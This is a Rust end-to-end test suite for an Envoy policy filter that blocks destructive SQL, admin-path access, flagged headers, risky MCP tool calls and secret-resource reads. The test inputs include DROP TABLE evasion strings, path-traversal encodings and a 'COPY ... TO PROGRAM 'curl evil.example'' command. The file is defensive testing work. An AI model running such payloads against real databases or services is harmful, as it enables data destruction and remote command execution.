//! Policy decisions of the real filter in a real Envoy, in front of an upstream that
//! really executes SQL: destructive SQL and its evasions, chunked bodies, body limits,
//! path/header/query rules and their evasions, MCP tool calls, default deny, dry-run and
//! the per-rule counters.
//!
//! One shared stack runs the shipped rules followed by the extra rules below; each SQL
//! test checks on the upstream itself that the table survived.

use std::time::Duration;

use airlock_e2e::fixtures::wait_first_fetch;
use airlock_e2e::raw;
use airlock_e2e::*;
use serde_json::{json, Value};

/// Rules appended after the shipped ones (which end with the `/tables` allow rule).
fn extra_rules() -> Vec<Value> {
    vec![
        json!({"name": "block-admin-paths", "action": "deny",
               "when": {"path": {"prefix": "/admin", "case_insensitive": true}}}),
        json!({"name": "block-prod-header", "action": "deny",
               "when": {"path": {"prefix": "/echo"},
                        "headers": [{"name": "x-env", "exact": "prod", "case_insensitive": true}]}}),
        json!({"name": "block-force-query", "action": "deny",
               "when": {"path": {"prefix": "/echo"}, "query": [{"name": "force", "exact": "true"}]}}),
        json!({"name": "block-dangerous-mcp-tool", "action": "deny",
               "when": {"methods": ["POST"], "path": {"exact": "/echo/mcp"},
                        "mcp_tool": {"any_of": ["delete_database", "drop_table"]}}}),
        json!({"name": "observe-echo-deletes", "action": "deny", "dry_run": true,
               "when": {"methods": ["DELETE"], "path": {"prefix": "/echo"}}}),
        json!({"name": "stats-probe-deny", "action": "deny",
               "when": {"path": {"exact": "/echo/stats-probe/deny"}}}),
        json!({"name": "stats-probe-allow", "action": "allow",
               "when": {"path": {"exact": "/echo/stats-probe/allow"}}}),
        // A database tool's `sql` argument read as SQL: it may read, never change.
        json!({"name": "mcp-query-tool-reads-only", "action": "deny",
               "when": {"path": {"exact": "/echo/mcp"}, "mcp_tool": {"exact": "query"},
                        "body": [{"json_pointer": "/params/arguments/sql",
                                  "sql": {"effects": ["write", "ddl", "admin"], "dialect": "postgresql"}}]}}),
        json!({"name": "mcp-no-secret-resources", "action": "deny",
               "when": {"path": {"exact": "/echo/mcp"}, "mcp_resource": {"prefix": "secret://"}}}),
        // One rule, two shapes: deletes, and anything without a ticket that names a change.
        json!({"name": "vault-needs-a-ticket", "action": "deny",
        "when": {"path": {"prefix": "/echo/vault"}, "any": [
            {"methods": ["DELETE"]},
            {"not": {"headers": [{"name": "x-ticket", "regex": "^OPS-[0-9]+$"}]}}
        ]}}),
        // Operators may do anything the rules above do not forbid: so a request that
        // slips past a deny rule would be allowed here, not caught by default deny.
        json!({"name": "ops-anything", "action": "allow",
               "when": {"groups": {"any_of": ["ops"]}}}),
    ]
}

fn policy_config() -> Value {
    let mut config = test_plugin_config();
    let rules = config["rules"].as_array_mut().unwrap();
    rules.extend(extra_rules());
    config
}

fn stack() -> SharedRef {
    static STACK: SharedStack = SharedStack::new();
    STACK.get(|| {
        let stack = builder_for(policy_config(), TestKeys::shared()).start()?;
        wait_first_fetch(stack.jwks());
        Ok(stack)
    })
}

fn dba() -> String {
    auth_for(TestKeys::shared(), "dana", &["dba"])
}

fn ops() -> String {
    auth_for(TestKeys::shared(), "olga", &["ops"])
}

/// The table list as the upstream itself reports it (bypassing Envoy).
fn upstream_tables(stack: &Stack) -> Value {
    let reply = send(stack.agent(), "GET", &stack.upstream_url("/tables"), &[], None).unwrap();
    reply.json().unwrap()["tables"].clone()
}

fn assert_table_intact(stack: &Stack, context: &str) {
    assert_eq!(upstream_tables(stack), json!(["customers"]), "after {context}");
}

/// POSTs raw bytes to `/sql` as JSON with `authorization`.
fn post_sql_raw(stack: &Stack, authorization: &str, body: &[u8]) -> Reply {
    stack
        .request("POST", "/sql", &[("authorization", authorization), ("content-type", "application/json")], Some(body))
        .unwrap()
}

fn assert_denied_by(reply: &Reply, rule: &str) {
    assert_eq!(reply.status, 403, "{}", reply.text());
    let error = error_of(reply);
    assert_eq!(error["code"], "denied_by_rule", "{error}");
    assert_eq!(error["rule"], rule, "{error}");
    assert_eq!(error["retry"], "never", "{error}");
}

#[test]
fn drop_table_is_blocked_by_block_destructive_sql_and_the_table_survives() {
    let stack = stack();
    let reply = stack.post_json("/sql", &[("authorization", &dba())], &json!({"sql": "DROP TABLE customers"})).unwrap();
    assert_denied_by(&reply, "block-destructive-sql");
    assert_eq!(reply.header("x-airlock-code"), Some("denied_by_rule"));
    assert!(error_of(&reply)["message"].as_str().unwrap().contains("block-destructive-sql"));
    assert_table_intact(&stack, "DROP TABLE");
    // Through Envoy too, with a caller the shipped rules let read the table list.
    let tables = stack.get("/tables", &[("authorization", &dba())]).unwrap();
    assert_eq!(tables.json().unwrap()["tables"], json!(["customers"]));
}

#[test]
fn drop_table_evasions_are_all_blocked_and_the_table_survives() {
    let stack = stack();
    let auth = dba();
    let evasions: [(&str, &[u8]); 7] = [
        ("comment between keywords", br#"{"sql": "DROP/**/TABLE customers"}"#),
        ("newline and tab", b"{\"sql\": \"drop\\n\\ttable customers\"}"),
        ("mixed case", br#"{"sql": "DrOp TaBlE customers"}"#),
        ("JSON unicode escape", br#"{"sql": "\u0044ROP TABLE customers"}"#),
        ("stacked statement", br#"{"sql": "SELECT 1; DROP TABLE customers"}"#),
        ("MySQL executable comment", br#"{"sql": "/*!DROP*/ TABLE customers"}"#),
        ("line comment and escapes", b"{\"sql\": \"SELECT 1 -- x\\n;\\u0064rop\\u0020 /* y */ table customers\"}"),
    ];
    for (what, body) in evasions {
        let reply = post_sql_raw(&stack, &auth, body);
        assert_eq!(reply.status, 403, "{what}: {}", reply.text());
        assert_eq!(error_of(&reply)["rule"], "block-destructive-sql", "{what}");
        assert_table_intact(&stack, what);
    }
}

#[test]
fn drop_table_split_across_chunks_of_a_chunked_body_is_blocked() {
    let stack = stack();
    let head = format!(
        "POST /sql HTTP/1.1\r\nhost: airlock\r\nauthorization: {}\r\ncontent-type: \
            application/json\r\ntransfer-encoding: chunked\r\nconnection: close\r\n\r\n",
        dba()
    );
    let chunks = [raw::chunk(br#"{"sql": "DR"#), raw::chunk(b"OP TA"), raw::chunk(br#"BLE customers"}"#)];
    let parts: Vec<&[u8]> =
        [head.as_bytes()].into_iter().chain(chunks.iter().map(Vec::as_slice)).chain([&b"0\r\n\r\n"[..]]).collect();
    let reply =
        raw::exchange(stack.listen_port(), &parts, Duration::from_millis(100), Duration::from_secs(20)).unwrap();
    assert_eq!(reply.status, 403, "{}", reply.text());
    let error: Value = serde_json::from_slice(&reply.body).unwrap();
    assert_eq!(error["error"]["rule"], "block-destructive-sql", "{error}");
    assert_table_intact(&stack, "chunked DROP TABLE");
}

#[test]
fn analyst_select_is_allowed_and_its_answer_masked() {
    let stack = stack();
    let query = json!({"sql": "SELECT name, email, card, ssn FROM customers ORDER BY id"});
    let raw_answer = send(
        stack.agent(),
        "POST",
        &stack.upstream_url("/sql"),
        &[("content-type", "application/json")],
        Some(query.to_string().as_bytes()),
    )
    .unwrap()
    .json()
    .unwrap();
    let auth = auth_for(TestKeys::shared(), "ann", &["analyst"]);
    let reply = stack.post_json("/sql", &[("authorization", &auth)], &query).unwrap();
    assert_eq!(reply.status, 200, "{}", reply.text());
    let masked = reply.json().unwrap();
    let text = reply.text();
    let raw_rows = raw_answer["rows"].as_array().unwrap();
    let rows = masked["rows"].as_array().unwrap();
    assert_eq!(masked["columns"], raw_answer["columns"]);
    assert_eq!(rows.len(), raw_rows.len());
    assert_eq!(rows.len(), 20);
    for (row, raw_row) in rows.iter().zip(raw_rows) {
        assert_eq!(row[0], raw_row[0], "names are not masked");
        for (i, what) in [(1, "email"), (2, "card"), (3, "ssn")] {
            let secret = raw_row[i].as_str().unwrap();
            assert!(!text.contains(secret), "{what} {secret} leaked: {text}");
        }
    }
}

#[test]
fn request_body_over_the_inspection_limit_is_refused_413_and_nothing_runs() {
    let stack = stack();
    // 1.1 MiB: the shipped inspection limit is 1 MiB. Were it executed, the table would go.
    let padding = "x".repeat(1_100_000);
    let body = json!({"sql": format!("DROP TABLE customers -- {padding}")}).to_string();
    let reply = post_sql_raw(&stack, &dba(), body.as_bytes());
    assert_eq!(reply.status, 413, "{}", reply.text());
    let error = error_of(&reply);
    assert_eq!(error["code"], "request_body_too_large", "{error}");
    assert_eq!(error["retry"], "fix_request", "{error}");
    assert_table_intact(&stack, "oversized body");
}

#[test]
fn invalid_json_on_sql_is_refused_by_the_deny_rule_fail_closed() {
    let stack = stack();
    for body in [&b"{\"sql\": \"DROP TABLE customers\""[..], b"DROP TABLE customers", b"\xff\xfe{\"sql\""] {
        let reply = post_sql_raw(&stack, &dba(), body);
        assert_denied_by(&reply, "block-destructive-sql");
        assert_table_intact(&stack, &String::from_utf8_lossy(body));
    }
}

#[test]
fn path_evasions_against_a_prefix_deny_rule_are_blocked() {
    let stack = stack();
    let auth = ops();
    // Sanity: the ops rule does let other paths through.
    let ok = stack.get("/echo/fine", &[("authorization", &auth)]).unwrap();
    assert_eq!(ok.status, 200, "{}", ok.text());
    for path in [
        "/admin",
        "/%61dmin",
        "//admin",
        "/x/../admin",
        "/./admin/users",
        "/%2561dmin",
        "/ADMIN/users",
        "/echo/..%2F..%2Fadmin",
    ] {
        let reply = stack.get(path, &[("authorization", &auth)]).unwrap();
        assert_eq!(reply.status, 403, "{path}: {}", reply.text());
        let error = error_of(&reply);
        assert_eq!(error["rule"], "block-admin-paths", "{path}: {error}");
    }
}

#[test]
fn header_rule_blocks_its_value_in_any_case_and_passes_others() {
    let stack = stack();
    let auth = ops();
    for value in ["prod", "PROD", "Prod"] {
        let reply = stack.get("/echo/deploy", &[("authorization", &auth), ("x-env", value)]).unwrap();
        assert_denied_by(&reply, "block-prod-header");
    }
    // A repeated header cannot hide the dangerous value behind a harmless one.
    let reply =
        stack.get("/echo/deploy", &[("authorization", &auth), ("x-env", "staging"), ("x-env", "prod")]).unwrap();
    assert_denied_by(&reply, "block-prod-header");
    let reply = stack.get("/echo/deploy", &[("authorization", &auth), ("x-env", "staging")]).unwrap();
    assert_eq!(reply.status, 200, "{}", reply.text());
}

#[test]
fn query_rule_blocks_its_parameter_even_percent_encoded() {
    let stack = stack();
    let auth = ops();
    for path in [
        "/echo/run?force=true",
        "/echo/run?x=1&force=true",
        "/echo/run?for%63e=%74rue",
        "/echo/run?force=false&force=true",
    ] {
        let reply = stack.get(path, &[("authorization", &auth)]).unwrap();
        assert_denied_by(&reply, "block-force-query");
    }
    let reply = stack.get("/echo/run?force=false", &[("authorization", &auth)]).unwrap();
    assert_eq!(reply.status, 200, "{}", reply.text());
}

#[test]
fn request_no_rule_allows_is_denied_by_default() {
    let stack = stack();
    let guest = auth_for(TestKeys::shared(), "gus", &["guests"]);
    let reply = stack.get("/customers", &[("authorization", &guest)]).unwrap();
    assert_eq!(reply.status, 403, "{}", reply.text());
    let error = error_of(&reply);
    assert_eq!(error["code"], "denied_by_default", "{error}");
    assert_eq!(error["retry"], "never", "{error}");
    assert!(error.get("rule").is_none(), "{error}");
    assert_eq!(reply.header("x-airlock-code"), Some("denied_by_default"));
}

fn mcp_call(id: u32, tool: &str) -> Value {
    json!({"jsonrpc": "2.0", "id": id, "method": "tools/call",
           "params": {"name": tool, "arguments": {"q": "customers"}}})
}

/// An MCP request refused by `rule`, answered as its client expects: a JSON-RPC error at
/// HTTP 200 with the request's id and Airlock's answer in `data`.
fn assert_jsonrpc_denied_by(answer: &Value, id: Value, rule: &str) {
    assert_eq!(answer["jsonrpc"], "2.0", "{answer}");
    assert_eq!(answer["id"], id, "{answer}");
    // `denied_by_rule`'s JSON-RPC code (README: MCP answers).
    assert_eq!(answer["error"]["code"], -32061, "{answer}");
    let data = &answer["error"]["data"];
    assert_eq!(data["code"], "denied_by_rule", "{answer}");
    assert_eq!(data["rule"], rule, "{answer}");
    assert_eq!(data["retry"], "never", "{answer}");
}

fn jsonrpc_answer(reply: &Reply) -> Value {
    assert_eq!(reply.status, 200, "{}", reply.text());
    assert_eq!(reply.header("content-type"), Some("application/json"), "{}", reply.text());
    assert_eq!(reply.header("x-airlock-code"), Some("denied_by_rule"));
    reply.json().unwrap()
}

#[test]
fn mcp_tools_call_rule_blocks_the_tool_by_name_alone_or_hidden_in_a_batch() {
    let stack = stack();
    let auth = ops();
    let allowed = stack.post_json("/echo/mcp", &[("authorization", &auth)], &mcp_call(1, "search")).unwrap();
    assert_eq!(allowed.status, 200, "{}", allowed.text());
    let echo = allowed.json().unwrap();
    assert_eq!(
        serde_json::from_str::<Value>(echo["body"].as_str().unwrap()).unwrap(),
        mcp_call(1, "search"),
        "the allowed body reaches the upstream unchanged"
    );

    let denied = stack.post_json("/echo/mcp", &[("authorization", &auth)], &mcp_call(2, "delete_database")).unwrap();
    assert_jsonrpc_denied_by(&jsonrpc_answer(&denied), json!(2), "block-dangerous-mcp-tool");

    // The whole batch is refused: each request in it gets its error, by id.
    let batch = json!([mcp_call(3, "search"), mcp_call(4, "drop_table")]);
    let denied = stack.post_json("/echo/mcp", &[("authorization", &auth)], &batch).unwrap();
    let answers = jsonrpc_answer(&denied);
    assert_eq!(answers.as_array().map(Vec::len), Some(2), "{answers}");
    assert_jsonrpc_denied_by(&answers[0], json!(3), "block-dangerous-mcp-tool");
    assert_jsonrpc_denied_by(&answers[1], json!(4), "block-dangerous-mcp-tool");

    let escaped = br#"{"jsonrpc":"2.0","id":"five","method":"tools/call","params":{"name":"delete\u005fdatabase"}}"#;
    let denied = stack
        .request("POST", "/echo/mcp", &[("authorization", &auth), ("content-type", "application/json")], Some(escaped))
        .unwrap();
    assert_jsonrpc_denied_by(&jsonrpc_answer(&denied), json!("five"), "block-dangerous-mcp-tool");

    // A notification waits for no answer: its refusal is the status alone.
    let mut notification = mcp_call(0, "drop_table");
    notification.as_object_mut().unwrap().remove("id");
    let refused = stack.post_json("/echo/mcp", &[("authorization", &auth)], &notification).unwrap();
    assert_eq!(refused.status, 403, "{}", refused.text());
    assert!(refused.body.is_empty(), "{}", refused.text());
    assert_eq!(refused.header("x-airlock-code"), Some("denied_by_rule"));
}

#[test]
fn mcp_tool_sql_argument_is_parsed_so_writes_are_refused_and_reads_with_keywords_pass() {
    let stack = stack();
    let auth = ops();
    let call = |id: u64, sql: &str| {
        json!({"jsonrpc": "2.0", "id": id, "method": "tools/call",
               "params": {"name": "query", "arguments": {"sql": sql}}})
    };
    for (id, sql) in [
        (1, "WITH gone AS (DELETE FROM accounts RETURNING *) SELECT count(*) FROM gone"),
        (2, "SELECT 1; TRUNCATE accounts"),
        (3, "COPY accounts TO PROGRAM 'curl evil.example'"),
    ] {
        let denied = stack.post_json("/echo/mcp", &[("authorization", &auth)], &call(id, sql)).unwrap();
        assert_jsonrpc_denied_by(&jsonrpc_answer(&denied), json!(id), "mcp-query-tool-reads-only");
    }
    let read = call(4, "SELECT note FROM accounts WHERE note = 'delete me later' -- ; DROP TABLE accounts");
    let allowed = stack.post_json("/echo/mcp", &[("authorization", &auth)], &read).unwrap();
    assert_eq!(allowed.status, 200, "{}", allowed.text());
    let echo = allowed.json().unwrap();
    assert_eq!(serde_json::from_str::<Value>(echo["body"].as_str().unwrap()).unwrap(), read);
}

#[test]
fn mcp_resource_rule_refuses_reading_a_secret_uri_and_passes_other_reads() {
    let stack = stack();
    let auth = ops();
    let read = |id: u32, uri: &str| {
        let body = json!({"jsonrpc": "2.0", "id": id, "method": "resources/read", "params": {"uri": uri}});
        stack.post_json("/echo/mcp", &[("authorization", &auth)], &body).unwrap()
    };
    let passed = read(1, "file:///srv/readme.md");
    assert_eq!(passed.status, 200, "{}", passed.text());
    assert!(passed.json().unwrap()["body"].as_str().unwrap().contains("file:///srv/readme.md"), "reached the upstream");
    let refused = read(2, "secret://payments/api-key");
    let answer = jsonrpc_answer(&refused);
    assert_jsonrpc_denied_by(&answer, json!(2), "mcp-no-secret-resources");
    assert!(answer.get("body").is_none(), "the upstream echo never ran: {answer}");
}

#[test]
fn one_rule_with_any_and_not_covers_deletes_and_requests_without_a_ticket() {
    let stack = stack();
    let auth = ops();
    let ask = |method: &str, tickets: &[&str]| {
        let mut headers = vec![("authorization", auth.as_str())];
        headers.extend(tickets.iter().map(|t| ("x-ticket", *t)));
        stack.request(method, "/echo/vault/keys", &headers, None).unwrap()
    };
    let ticketed = ask("GET", &["OPS-42"]);
    assert_eq!(ticketed.status, 200, "{}", ticketed.text());
    assert_eq!(ticketed.json().unwrap()["method"], "GET", "the upstream answered");
    assert_denied_by(&ask("GET", &[]), "vault-needs-a-ticket");
    assert_denied_by(&ask("GET", &["please"]), "vault-needs-a-ticket");
    assert_denied_by(&ask("DELETE", &["OPS-42"]), "vault-needs-a-ticket");
    // A valid ticket beside an invalid one does not carry it.
    assert_denied_by(&ask("GET", &["OPS-42", "nope"]), "vault-needs-a-ticket");
}

#[test]
fn per_rule_dry_run_lets_the_request_through_and_counts_would_block() {
    let stack = stack();
    let name = "wasmcustom.airlock.dry_run.would_block";
    let before = stack.stat(name).unwrap_or(0);
    let reply = stack.request("DELETE", "/echo/records/7", &[("authorization", &ops())], None).unwrap();
    assert_eq!(reply.status, 200, "{}", reply.text());
    assert_eq!(reply.json().unwrap()["method"], "DELETE");
    let after = stack.wait_for_stat(name, before + 1, Duration::from_secs(5)).unwrap_or(0);
    assert_eq!(after, before + 1);
}

#[test]
fn rule_matched_denied_and_allowed_counters_move() {
    let stack = stack();
    let auth = ops();
    let stat = |name: &str| stack.stat(&format!("wasmcustom.airlock.{name}")).unwrap_or(0);
    let (deny0, allow0) = (stat("rule.stats-probe-deny.matched"), stat("rule.stats-probe-allow.matched"));
    let (denied0, allowed0) = (stat("denied"), stat("allowed"));
    for _ in 0..2 {
        let reply = stack.get("/echo/stats-probe/deny", &[("authorization", &auth)]).unwrap();
        assert_denied_by(&reply, "stats-probe-deny");
    }
    for _ in 0..3 {
        let reply = stack.get("/echo/stats-probe/allow", &[("authorization", &auth)]).unwrap();
        assert_eq!(reply.status, 200);
    }
    assert_eq!(stat("rule.stats-probe-deny.matched"), deny0 + 2);
    assert_eq!(stat("rule.stats-probe-allow.matched"), allow0 + 3);
    // Other tests share the stack: these two only have lower bounds.
    assert!(stat("denied") >= denied0 + 2);
    assert!(stat("allowed") >= allowed0 + 3);
}

#[test]
fn global_dry_run_lets_blocked_requests_through_but_still_checks_tokens() {
    let mut config = config_with_rules(
        json!([
            {"name": "block-echo-danger", "action": "deny", "when": {"path": {"prefix": "/echo/danger"}}},
            {"name": "reads-tables", "action": "allow", "when": {"path": {"exact": "/tables"}}}
        ]),
        "deny",
    );
    config["dry_run"] = json!(true);
    let keys = TestKeys::new();
    let stack = builder_for(config, &keys).start().unwrap();
    let auth = auth_for(&keys, "alice", &[]);
    let name = "wasmcustom.airlock.dry_run.would_block";
    let before = stack.stat(name).unwrap_or(0);

    let by_rule = stack.get("/echo/danger/zone", &[("authorization", &auth)]).unwrap();
    assert_eq!(by_rule.status, 200, "{}", by_rule.text());
    assert_eq!(by_rule.json().unwrap()["path"], "/echo/danger/zone");
    let by_default = stack.get("/echo/anything", &[("authorization", &auth)]).unwrap();
    assert_eq!(by_default.status, 200, "{}", by_default.text());
    assert_eq!(stack.wait_for_stat(name, before + 2, Duration::from_secs(5)), Some(before + 2));
    assert!(stack.envoy_log().contains("dry-run: rule `block-echo-danger` would have answered denied_by_rule"));

    // Dry-run never waives the token check.
    let anonymous = stack.get("/echo/danger/zone", &[]).unwrap();
    assert_eq!(anonymous.status, 401, "{}", anonymous.text());
}
